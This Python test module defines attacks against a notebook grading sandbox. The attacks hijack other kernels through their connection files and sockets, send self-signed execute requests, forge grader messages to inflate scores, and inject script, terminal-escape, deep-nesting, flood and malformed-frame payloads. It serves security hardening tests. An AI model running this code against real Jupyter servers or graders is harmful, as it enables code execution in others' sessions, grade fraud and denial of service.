"""Attacks on the kernels' own sockets: the learner's, the trusted one, those of others."""

from tests.attacks.attack import Attack

OTHERS = '''
import json, subprocess
speak = """
import json, os, sys, glob
from jupyter_client import BlockingKernelClient
mine = sys.argv[2]
places = glob.glob("/tmp/**/kernel*.json", recursive=True) + glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json"))
places += glob.glob(os.environ.get("JUPYTER_RUNTIME_DIR", "/x") + "/*.json")
for place in places:
    if place == mine or "-ipc" in place:
        continue
    try:
        client = BlockingKernelClient(connection_file=place)
        client.load_connection_file()
        client.start_channels()
        client.execute(f"open({sys.argv[1]!r}, 'a').write('in another kernel')", silent=True)
    except Exception as error:
        print(place, error)
"""
from ipykernel import get_connection_file
try:
    mine = get_connection_file()
except Exception:
    mine = ""
print(subprocess.run([sys.executable, "-c", speak, f"{LOOT}/{NAME}", mine], timeout=20, capture_output=True, text=True))
'''
FIND = '''
import socket
for line in open("/proc/net/unix"):
    path = line.split()[-1]
    if path.startswith(("/", "@")) and ("kernel" in path or "ipc" in path or "jupyter" in path) and os.path.basename(path)[:6] != "systemd":
        one = socket.socket(socket.AF_UNIX)
        one.settimeout(1)
        try:
            one.connect(path.replace("@", "\\0", 1) if path[0] == "@" else path)
            took(path)
        except OSError:
            pass
'''
SIGNED = '''
import subprocess, json
from IPython import get_ipython
from ipykernel import get_connection_info
speak = """
import json, sys, time, zmq
from jupyter_client.session import Session
about = json.loads(sys.argv[1])
session = Session(key=about["key"].encode(), signature_scheme=about["signature_scheme"])
one = zmq.Context().socket(zmq.DEALER)
form = "ipc://{ip}-{port}" if about["transport"] == "ipc" else "tcp://{ip}:{port}"
one.connect(form.format(ip=about["ip"], port=about["shell_port"]))
session.send(one, "execute_request", {"code": "open(%r, 'a').write('by its own key')" % sys.argv[2], "silent": True, "store_history": False,
    "user_expressions": {}, "allow_stdin": False, "stop_on_error": False})
time.sleep(2)
"""
about = get_connection_info()
took(about) if False else None
subprocess.Popen([sys.executable, "-c", speak, about, f"{LOOT}/{NAME}"])
'''
FRAME = '''
import json, struct
def say(message, raw=None):
    raw = json.dumps(message).encode() if raw is None else raw
    os.write(3, struct.pack(">I", len(raw)) + raw)
RESULT = {"output_type": "execute_result", "data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1}
'''
# What the grader waits for from here on: what this cell showed, then in turn values that a score reads and what a cell showed.
IN_TURN = FRAME + '''
def in_turn(total, by_till):
    say({"outputs": []})
    say({"values": total})
    say({"outputs": []})
    say({"values": by_till})
    import time; time.sleep(1)
'''
NAMES = IN_TURN + '''
right = {"t": "float", "v": 4.0}
both = {name: right for name in ("total", "by_till", "exercise", "key", "float", "Code", "__builtins__", "get_ipython")}
in_turn(both, both)
'''
OUTPUTS = FRAME + '''
for _ in range(8):
    say({"outputs": [RESULT], "values": {}, "score": 4.0, "refused": "", "scores": {"m91-1": 4.0}})
'''
ODD = FRAME + '''
for odd in ({"outputs": 5}, {"outputs": [5]}, {"outputs": [{"output_type": "error"}]}, {"outputs": [{"output_type": 5, "data": []}]},
            {"outputs": [{"output_type": "display_data", "data": {"text/html": {"a": 1}}, "metadata": 5}]}, {"values": 5}, {"values": {"total": 5}}, {}):
    say(odd)
'''
MARKUP = FRAME + '''
for _ in range(8):
    say({"outputs": [{"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "alert(1)", "text/html": "<script>alert(1)</script>"}},
                     {"output_type": "stream", "name": "stderr\\" onload=", "text": ["a", "b"]}]})
'''
ESCAPE = IN_TURN + '''
reason = {"t": "refused", "v": "\\x1b]0;owned\\x07\\x1b[2J<script>alert(1)</script>"}
in_turn({"total": reason}, {"by_till": {"t": "refused", "v": ["x"] * 1000}})
'''
DEEP = FRAME + '''
for depth in (400, 900, 960, 980, 5_000, 100_000):
    say(None, b'{"outputs": ' + b"[" * depth + b"]" * depth + b"}")
'''
LONG = FRAME + "os.write(3, struct.pack('>I', 2**32 - 1) + b'x' * 1000)"
FLOOD = FRAME + "for _ in range(2_000):\n    say({'outputs': [{'output_type': 'stream', 'name': 'stdout', 'text': 'x' * 100_000}]})"
WIDE = IN_TURN + '''
wide = {"t": "large", "rows": 100_000, "columns": 50}
in_turn({"total": {"t": "list", "v": [wide] * 5_000}}, {"by_till": {"t": "dict", "v": [[{"t": "tuple", "v": []}, wide]] * 500}})
'''
TABLE = IN_TURN + '''
nothing = {"t": "float", "v": "nan"}
in_turn({"total": {"t": "DataFrame", "index": [nothing] * 9, "names": [nothing], "columns": [{"t": "date", "v": "x" * 90_000}], "column_names": [nothing], "v": [{"numeric": True, "v": []}]}},
        {"by_till": {"t": "Series", "numeric": True, "index": [nothing] * 4_000, "names": [nothing] * 4_000, "v": [{"t": "date", "v": "now"}] * 4_000}})
'''
TYPES = IN_TURN + '''
in_turn({"total": {"t": "__class__", "v": 1690.0}}, {"by_till": {"t": "Series", "numeric": 1, "index": [{"t": "dict", "v": []}] * 3, "names": [{"t": "dict", "v": []}],
        "v": [{"t": "int", "v": True}, {"t": "bool", "v": 1}, {"t": "int", "v": 10**29}]}})
'''
EXACT = IN_TURN + '''
in_turn({"total": {"t": "float", "v": 1e308}}, {"by_till": {"t": "dict", "v": [[{"t": "text", "v": "a"}, {"t": "opaque"}]]}})
'''
# One frame each, as no kernel of ours sends it: what comes first ends the talk.
ODD_FRAMES = {
    "not-utf8": ("text that is not UTF-8", r"""say(None, b'{"outputs": [{"output_type": "stream", "name": "stdout", "text": "\xff\xfe"}]}')"""),
    "utf16": ("text in UTF-16", """say(None, '{"outputs": [], "values": {}}'.encode("utf-16"))"""),
    "halves": ("halves of letters", r"""say({"outputs": [{"output_type": "stream", "name": "stdout", "text": "\ud800"},
        {"output_type": "error", "ename": "\udfff", "evalue": "\ud800", "traceback": ["\ud800"]}]})"""),
    "list": ("a list instead of an object", "say([RESULT])"),
    "text": ("a text instead of an object", "say('outputs')"),
    "nothing": ("a message of no length", "say(None, b'')"),
    "too-large": ("8 MB and one byte", "say(None, b'{' + b' ' * 8_000_000)"),
    "cut": ("less than it announces, and goes", "os.write(3, struct.pack('>I', 1_000) + b'{'); os._exit(0)"),
    "digits": ("a number of 100,000 digits, and infinity", "say(None, b'{\"outputs\": ' + b'9' * 100_000 + b', \"values\": 1e999}')"),
}

ATTACKS = [
    Attack("kernels-of-others", "looks for connection files and runs code in the kernels of others", "a file of its name appears in the loot", OTHERS),
    Attack("kernels-by-socket", "connects to every socket of a kernel that it finds", "it says which it reached", FIND),
    Attack("kernel-own-channel", "lets a second program send requests to its own kernel, signed with its key",
           "code sent so writes outside", SIGNED),
    *(Attack(f"channel-{name}", tries, "the score rises, or the batch stops", code, stock="stock nbgrader has no such channel") for name, tries, code in (
        ("names", "says through its own channel that names hold values which no score cell reads", NAMES),
        ("outputs", "says through its own channel what the score cells showed", OUTPUTS),
        ("odd", "says through its own channel what is not agreed", ODD),
        ("markup", "says through its own channel that it showed markup which no cell could show", MARKUP),
        ("escape", "gives as its reason what steers a terminal and a page", ESCAPE),
        ("deep", "sends lists in lists through its own channel", DEEP),
        ("long", "announces a message of 4 GB", LONG),
        ("flood", "sends 200 MB through its own channel", FLOOD),
        ("wide", "describes 2 TB of tables", WIDE),
        ("tables", "describes tables that do not fit together", TABLE),
        ("types", "describes values of types that there are not", TYPES),
        ("opaque", "describes numbers that are none", EXACT),
        *((f"frame-{name}", f"sends through its own channel {what}", FRAME + code) for name, (what, code) in ODD_FRAMES.items()))),
]
